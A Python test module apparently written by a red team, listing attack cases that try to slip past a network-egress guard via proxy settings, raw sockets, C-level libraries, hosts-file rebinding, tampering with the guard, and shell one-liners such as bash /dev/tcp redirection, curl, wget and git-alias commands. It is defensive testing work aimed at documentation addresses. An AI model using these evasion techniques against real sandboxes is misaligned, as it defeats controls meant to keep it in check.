"""The red team's ways out, each as an attack case of the namespace suite (see guard_attacks.py).

Every case aims at a documentation address the witness listens on, so an escape is counted, not
merely an error. Cases marked ``@limit`` show a documented limit of the default mode: their
traffic is expected to arrive (kernel mode is the answer).
"""

from __future__ import annotations

import _socket
import asyncio
import collections
import ctypes
import os
import socket
import struct
import subprocess
import sys
import tempfile
import typing
from typing import Any

from attack_kit import (
    FORWARD_PROXY,
    MARKER,
    REMOTE_PROXY,
    STATE,
    V4,
    V4B,
    V4C,
    V6,
    case,
    hosts_file,
    limit,
    run,
    tcp,
)

from model_manager import guard
from model_manager.errors import NetworkAccessForbidden


def before_activation() -> dict[str, Any]:
    """What a process may hold before the guard comes on: a connection, a gRPC factory."""
    from grpc import insecure_channel
    pre = socket.create_connection((V4C, 8001), timeout=2)
    return {"pre_socket": pre, "saved_insecure_channel": insecure_channel}


# ---------------------------------------------------------------- 1. address and port types
Addr = collections.namedtuple("Addr", "host port")


class Address(typing.NamedTuple):  # the shape of starlette's Address
    host: str
    port: int


@case
def namedtuple_address() -> None:
    with socket.socket() as s:
        s.settimeout(2)
        s.connect(Addr(V4, 80))


@case
def namedtuple_c_level() -> None:
    with socket.socket() as s:
        _socket.socket.connect_ex(s, Address(V4B, 80))


@case
def namedtuple_sendto() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", Address(V4C, 9))


@case
def numpy_port_to_dns() -> None:
    import numpy as np
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", ("127.0.0.53", np.int64(53)))


class _LoopbackLookalike(str):
    def __hash__(self) -> int:
        return hash("127.0.0.1")

    def __eq__(self, other: object) -> bool:
        return True


class _PortLookalike(int):
    def __hash__(self) -> int:
        return 1


@case
def str_subclass_host() -> None:
    with socket.socket() as s:
        s.settimeout(2)
        s.connect((_LoopbackLookalike(V4), 80))


@case
def int_subclass_port() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", ("127.0.0.53", _PortLookalike(53)))


# ---------------------------------------------------------------- 2. proxies
@case
def proxies_cleared() -> list[str]:
    left = sorted(k for k in os.environ if k.lower().endswith("_proxy"))
    if left:
        raise RuntimeError(f"proxy variables still set under the guard: {left}")
    return list(guard.cleared_proxies())


@case
def proxy_forward_on_loopback() -> None:
    import requests  # HTTP_PROXY pointed at a forward proxy on loopback before the guard came on
    requests.get(f"http://{V4}/", timeout=2)


@case
def grpc_proxy_variable() -> str:
    import grpc  # an allowed target; with https_proxy/grpc_proxy exported the C core dials the proxy
    channel = grpc.insecure_channel(f"triton:{STATE['port']}")
    try:
        grpc.channel_ready_future(channel).result(timeout=1)
    except grpc.FutureTimeoutError:
        pass
    channel.close()
    return "channel tried its target"


@case
def grpc_proxy_option() -> None:
    import grpc
    channel = grpc.insecure_channel(f"localhost:{STATE['port']}", options=[("grpc.http_proxy", REMOTE_PROXY)])
    grpc.channel_ready_future(channel).result(timeout=1)


@case
def grpc_proxy_option_disabled() -> str:
    import grpc
    grpc.insecure_channel(f"localhost:{STATE['port']}", options=[
        ("grpc.enable_http_proxy", 0), ("grpc.http_proxy", FORWARD_PROXY)]).close()
    return "made"


# ---------------------------------------------------------------- 3. network stacks in C
@case
def uvloop_connect() -> None:
    import uvloop

    async def go() -> None:
        await asyncio.wait_for(asyncio.open_connection(V4, 443), 2)
    uvloop.run(go())


@case
def uvloop_dns() -> None:
    import uvloop

    async def go() -> None:
        await asyncio.wait_for(asyncio.get_running_loop().getaddrinfo("example.com", 80), 3)
    uvloop.run(go())


@case
def aiodns_query() -> None:
    import aiodns

    async def go() -> None:
        resolver = aiodns.DNSResolver()
        await asyncio.wait_for(resolver.getaddrinfo("example.com", port=80), 3)
    asyncio.run(go())


@case
def aiohttp_name() -> None:
    import aiohttp  # with aiodns importable, aiohttp resolves through c-ares: the query leaves from C

    async def go() -> None:
        async with aiohttp.ClientSession() as session:
            await session.get("http://example.com/", timeout=aiohttp.ClientTimeout(total=3))
    asyncio.run(go())


@case
def aiohttp_loopback_with_aiodns_refused() -> str:
    import aiohttp
    import aiohttp.resolver

    async def go() -> int:
        async with aiohttp.ClientSession() as session, \
                session.get(f"http://triton:{STATE['port']}/v2/health/ready") as response:
            return response.status
    status = asyncio.run(go())
    return f"{status} {aiohttp.resolver.DefaultResolver.__name__} aiodns={aiohttp.resolver.aiodns is not None}"


@case
def pycurl_fetch() -> None:
    import pycurl
    curl = pycurl.Curl()
    curl.setopt(pycurl.URL, f"http://{V4}/")
    curl.setopt(pycurl.TIMEOUT, 2)
    curl.setopt(pycurl.WRITEFUNCTION, lambda data: None)
    curl.perform()


@case
def refused_imports_recorded() -> list[str]:
    return sorted({a.module for a in guard.refused_imports()})


@limit
def ctypes_connect() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 8080) + socket.inet_aton(V4) + bytes(8)
    result = libc.connect(fd, address, len(address))
    libc.close(fd)
    return f"connect returned {result}: libc is out of the guard's sight"


# ---------------------------------------------------------------- 4. socket families
def _frame() -> bytes:
    return bytes(12) + b"\x88\xb5" + MARKER  # ethertype 0x88B5: local experimental


@case
def af_packet_frame() -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("lo", 0))
        s.send(_frame())


@case
def af_packet_c_level() -> None:
    s = _socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("lo", 0))
    s.send(_frame())
    s.close()


@case
def inet_raw_socket() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
        s.sendto(struct.pack("!HHHH", 4000, 9, 9, 0) + b"x", (V4, 0))


@case
def vsock_socket() -> None:
    # refused at creation; never_vsock (a second audit hook) guarantees the kernel never sees it
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()


@case
def vsock_c_level() -> None:
    _socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()


# ---------------------------------------------------------------- 5. names
def _repin() -> None:
    entries = list(guard.allowed())
    guard.deactivate()
    guard.activate(entries)


@case
def localhost_points_elsewhere() -> None:
    try:
        with hosts_file({"localhost": V4}):
            _repin()
            tcp("localhost", 80)  # by name: C resolves it inside connect()
    finally:
        _repin()


@case
def localhost_points_elsewhere_getaddrinfo() -> None:
    try:
        with hosts_file({"localhost": V4}):
            _repin()
            socket.create_connection(("localhost", 80), timeout=2).close()
    finally:
        _repin()


@case
def localhost_points_elsewhere_grpc() -> None:
    import grpc
    try:
        with hosts_file({"localhost": V4}):
            _repin()
            grpc.insecure_channel("localhost:80").close()
    finally:
        _repin()


@case
def ipv6_rebinding() -> None:
    socket.getaddrinfo("tritonremote", 8000)  # pinned: 198.51.100.7, IPv4 only
    with hosts_file({"localhost": "127.0.0.1", "tritonremote": V6}):
        tcp("tritonremote", 8000, socket.AF_INET6)  # an answer given after the pin must not count


# ---------------------------------------------------------------- 6. before activation
@case
def preexisting_connection() -> dict[str, Any]:
    return {"unguarded": list(guard.unguarded_sockets()),
            "problems": [p for p in guard.integrity_problems() if "before the guard" in p]}


@case
def grpc_saved_factory() -> None:
    STATE["saved_insecure_channel"](f"{V4B}:8001")


@case
def grpc_channel_class() -> None:
    import grpc._channel
    grpc._channel.Channel(f"{V4B}:8001", (), None, None)


# ---------------------------------------------------------------- 7. child processes
@case
def bash_lc() -> str:
    return run(["bash", "-lc", f"curl -s -m 2 http://{V4}/"])


@case
def sh_ec() -> str:
    return run(["sh", "-ec", f"wget -q -T 2 -O- http://{V4B}/"])


@case
def dev_tcp_redirection() -> str:
    return run(["bash", "-c", f"exec 3<>/dev/tcp/{V4}/80; echo hi >&3"])


@case
def variable_command_word() -> int:
    return os.system(f"c=curl; $c -s -m 2 http://{V4C}/")


@case
def find_exec() -> str:
    return run(["find", "/etc/hostname", "-exec", "curl", "-s", "-m", "2", f"http://{V4}/", ";"])


@case
def git_alias() -> str:
    return run(["git", "-c", f"alias.x=!curl -s -m 2 http://{V4}/", "x"])


@case
def perl_one_liner() -> str:
    return run(["perl", "-MIO::Socket::INET", "-e", f"IO::Socket::INET->new(PeerAddr=>'{V4}:80',Timeout=>2)"])


@case
def python_one_liner() -> str:
    return run([sys.executable, "-c", f"import socket; socket.create_connection(('{V4}', 80), 2)"])


@case
def node_one_liner() -> str:
    return run(["node", "-e", f"require('net').connect(80, '{V4}').on('connect', () => process.exit(0))"
                          ".on('error', () => process.exit(1)); setTimeout(() => process.exit(2), 2000)"])


@case
def pip_versioned() -> str:
    return run(["pip3.11", "download", "--no-deps", "-d", tempfile.mkdtemp(), f"http://{V4}/x-1.0-py3-none-any.whl"])


@case
def python_mpip() -> str:
    return run([sys.executable, "-mpip", "download", "--no-deps", "-d", tempfile.mkdtemp(),
                f"http://{V4}/x-1.0-py3-none-any.whl"])


@case
def busybox_wget() -> str:
    return run(["busybox", "wget", "-q", "-O-", f"http://{V4}/"])


@case
def sys_audit_replaced() -> str:
    original = sys.audit
    sys.audit = lambda *args: None
    try:
        return run(["curl", "-s", "-m", "2", f"http://{V4}/"])
    finally:
        sys.audit = original


@case
def fork_exec_direct() -> int:
    import _posixsubprocess
    read, write = os.pipe()
    try:
        pid = _posixsubprocess.fork_exec(
            ["curl", "-s", "-m", "2", f"http://{V4}/"], [b"/usr/bin/curl"], True, (write,), None, None,
            -1, -1, -1, -1, -1, -1, read, write, False, False, -1, None, None, None, -1, None,
            subprocess._USE_VFORK)  # type: ignore[attr-defined]
    finally:
        os.close(write)
    os.read(read, 100)
    os.close(read)
    return os.waitpid(pid, 0)[1]


@case
def os_spawnlp() -> int:
    return os.spawnlp(os.P_WAIT, "curl", "curl", "-s", "-m", "2", f"http://{V4}/")


@case
def fork_then_exec() -> str:
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.execvp("curl", ["curl", "-s", "-m", "2", f"http://{V4}/"])
        except NetworkAccessForbidden as exc:
            os.write(write, exc.code.encode())
        os._exit(127)
    os.close(write)
    os.waitpid(pid, 0)
    verdict = os.read(read, 100).decode()
    os.close(read)
    if verdict == "network_access_forbidden":
        raise NetworkAccessForbidden("refused in the forked child, where the exec happens")
    return verdict


# ---------------------------------------------------------------- 8. tampering
@case
def tamper_check_endpoint() -> None:
    import model_manager.guard as package
    modules = [m for m in (package, sys.modules.get("model_manager.guard.checks")) if m is not None]
    originals = [(m, m.check_endpoint) for m in modules]
    for module in modules:
        module.check_endpoint = lambda *a, **k: None
    try:
        tcp(V4, 80)
    except NetworkAccessForbidden as exc:
        problems = guard.integrity_problems()
        raise NetworkAccessForbidden(f"{exc.message} [problems: {problems}]") from exc
    finally:
        for module, original in originals:
            module.check_endpoint = original


# ---------------------------------------------------------------- allow entries that are networks
@case
def cidr_allowed() -> str:
    def attempt(host: str, port: int, family: int = socket.AF_INET) -> str:
        try:
            tcp(host, port, family)
        except NetworkAccessForbidden:
            return "refused"
        except OSError as exc:
            return type(exc).__name__
        return "connected"
    with guard.allowing(["198.51.100.0/24:8080", "[2001:db8::/32]:443"]):
        return " ".join([attempt(V4B, 8080), attempt(V6, 443, socket.AF_INET6), attempt(V4B, 80)])
